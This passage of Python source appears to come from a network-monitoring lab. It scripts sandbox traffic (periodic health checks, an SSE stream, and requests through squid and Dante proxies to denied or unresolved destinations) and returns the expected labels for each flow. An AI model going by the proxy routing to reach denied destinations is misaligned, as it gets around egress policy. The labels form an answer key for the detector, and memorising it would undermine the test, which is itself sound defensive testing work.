            (SANDBOX_IP, f"{WEB_IP}:80", "benign", "curl 7.88 HTTP download of a 12 KB file; " + note),
            (SANDBOX_IP, f"{WEB_IP}:443", "benign", "curl 7.88 HTTPS (h2) page fetch; " + note),
            (SANDBOX_IP, f"{WEB_IP}:0", "benign", "iputils ping -c 1; " + note + "; ICMP echo")]


@carrier_scenario
def beacon_rhythm_benign(lab: Lab) -> list[Label]:
    """Regular traffic to allowed destinations: a health check every 5 s (curl, new connection each time) and an
    SSE stream pushing every 5 s, for 47 s (issue 12 point 7: annotate the rhythm, report nothing)."""
    with _web(lab), _daemon(lab, lab.out, sys.executable, str(SRC / "http_push.py"), "sse", WEB_IP, "8090",
                            f"every={RHYTHM_EVERY_S}", port=8090):
        sse = subprocess.Popen(["ip", "netns", "exec", lab.sbx, "curl", "-q", "-s", "-N", "--max-time", "47",
                                "-o", "/dev/null", f"http://{WEB_IP}:8090/events"], env=_env(),
                               stderr=subprocess.DEVNULL)  # ends by --max-time (status 28) by design
        start = time.time()
        for i in range(10):
            time.sleep(max(0.0, start + i * RHYTHM_EVERY_S - time.time()))
            _curl(lab, lab.sbx, "-o", "/dev/null", "-H", "User-Agent: lab-health-agent/1.0",
                  f"http://{WEB_IP}:9100/healthz")
        sse.wait(timeout=60)
    return [(SANDBOX_IP, f"{WEB_IP}:9100", "benign",
             f"health check every {RHYTHM_EVERY_S:g} s (curl 7.88 in a timed loop standing in for a monitoring agent, "
             f"a new connection each time) to nginx on an allowed address, 10 checks; N chosen for the time budget"),
            (SANDBOX_IP, f"{WEB_IP}:8090", "benign",
             f"server-sent events pushed every {RHYTHM_EVERY_S:g} s on a fixed timer (scripted stdlib server "
             f"src/http_push.py, client curl -N), one connection for 47 s, to an allowed address")]


# ----------------------------------------------------------------------------------------------- policy through a proxy
@carrier_scenario
def proxy_target_policy(lab: Lab) -> list[Label]:
    """Allowed proxies asked for targets the rules do not allow: HTTPS to a denied name through squid, plain HTTP
    to an address nobody resolved through dante."""
    with _web(lab) as ca, _squid(lab), _dante(lab), \
            _daemon(lab, lab.out, sys.executable, "-m", "http.server", "8080", "--bind", SSH_IP, "--directory",
                    str(lab.workdir / "web"), port=8080):
        for name in ("index.html", "files/asset-3.bin"):
            _curl(lab, lab.sbx, "-x", f"http://{PROXY_IP}:{SQUID_PORT}", "--cacert", str(ca), "-o", "/dev/null",
                  f"https://{DENIED_NAME}/{name}")
            time.sleep(0.5)
        _curl(lab, lab.sbx, "--socks5", f"{PROXY_IP}:{DANTE_PORT}", "-o", "/dev/null",
              f"http://{SSH_IP}:8080/files/asset-0.bin")
    return [(SANDBOX_IP, f"{PROXY_IP}:{SQUID_PORT}", "unexpected_destination",
             f"reason denied: http_connect (squid 5.7) to {DENIED_NAME}:443, which the deny entry \"tunnel services\" "
             f"names; ordinary HTTPS (curl 7.88) inside, two connections"),
            (SANDBOX_IP, f"{PROXY_IP}:{DANTE_PORT}", "unexpected_destination",
             f"reason unbound_ip: socks5 (Dante 1.4.2, curl --socks5) to {SSH_IP}:8080 by address, which no allow "
             f"entry names and no DNS answer bound; one plain HTTP download inside")]


# ----------------------------------------------------------------------------------------------- main
def main(argv: list[str] | None = None) -> int:
    return _lab.scenario_main(argv, __doc__.split("\n\n")[0], list(OURS), FOLDER)


if __name__ == "__main__":
    sys.exit(main())
